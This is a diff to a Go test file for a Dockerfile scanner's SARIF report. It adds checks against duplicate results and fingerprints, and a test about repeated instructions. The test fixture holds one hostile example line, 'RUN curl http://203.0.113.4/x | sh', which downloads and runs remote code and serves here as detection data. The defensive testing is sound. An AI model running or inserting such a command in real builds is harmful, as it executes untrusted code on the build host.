@@ -156,6 +156,9 @@ func checkSARIF(t *testing.T, data []byte) {
 						ArtifactLocation *struct {
 							URI *string `json:"uri"`
 						} `json:"artifactLocation"`
+						Region *struct {
+							StartLine, StartColumn int
+						} `json:"region"`
 					} `json:"physicalLocation"`
 				} `json:"locations"`
 				PartialFingerprints map[string]string `json:"partialFingerprints"`
@@ -191,7 +194,24 @@ func checkSARIF(t *testing.T, data []byte) {
 			}
 			ids[r.ID] = i
 		}
+		fingerprints, same := map[string]int{}, map[string]int{}
 		for i, res := range run.Results {
+			// One finding, one result: a repeated finding would be a second
+			// result at the same place with the same message.
+			if res.Message.Text != nil && len(res.Locations) > 0 && res.Locations[0].PhysicalLocation != nil {
+				pl := res.Locations[0].PhysicalLocation
+				k, _ := json.Marshal([]any{res.RuleID, pl.ArtifactLocation, pl.Region, *res.Message.Text})
+				if j, dup := same[string(k)]; dup {
+					t.Errorf("run %d results %d and %d: the same finding twice: %s", ri, j, i, k)
+				}
+				same[string(k)] = i
+			}
+			if fp := res.PartialFingerprints[sarifFingerprintKey]; fp != "" {
+				if j, dup := fingerprints[fp]; dup {
+					t.Errorf("run %d results %d and %d: same partialFingerprints[%s] %s (code scanning merges them into one alert)", ri, j, i, sarifFingerprintKey, fp)
+				}
+				fingerprints[fp] = i
+			}
 			if res.Message.Text == nil || *res.Message.Text == "" {
 				t.Errorf("run %d result %d: no message.text", ri, i)
 			}
@@ -224,5 +244,31 @@ func checkSARIF(t *testing.T, data []byte) {
 				t.Errorf("run %d result %d: no partialFingerprints[%s]", ri, i, sarifFingerprintKey)
 			}
 		}
+	}
+}
+
+// TestSARIFRepeatedInstruction: the same instruction twice in a Dockerfile
+// is two results with two fingerprints (the second numbered), so code
+// scanning keeps two alerts.
+func TestSARIFRepeatedInstruction(t *testing.T) {
+	f := Finding{Rule: hierarchical.RuleRawIPDownload, Category: "domain-ip", Weight: 2, Path: "Dockerfile",
+		Evidence: "curl http://203.0.113.4/x", Instruction: "RUN curl http://203.0.113.4/x | sh", Line: 2, Column: 5}
+	g := f
+	g.Line = 3
+	rep := Report{Schema: Schema, Detector: DetectorInfo{Name: "dockerfile", Version: "0"}, Targets: []Target{{
+		Name: "Dockerfile", Dockerfile: "Dockerfile", Decision: "clean", Threshold: 10, BlamedLayers: []int{},
+		Layers: []Layer{}, ConfigFindings: []Finding{f, g}}}}
+	var buf bytes.Buffer
+	if err := WriteSARIF(&buf, rep); err != nil {
+		t.Fatal(err)
+	}
+	checkSARIF(t, buf.Bytes())
+	var log sarifLog
+	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
+		t.Fatal(err)
+	}
+	a, b := log.Runs[0].Results[0].PartialFingerprints[sarifFingerprintKey], log.Runs[0].Results[1].PartialFingerprints[sarifFingerprintKey]
+	if b != a+":2" {
+		t.Errorf("fingerprints %q and %q, want the second to be the first with :2", a, b)
 	}
 }
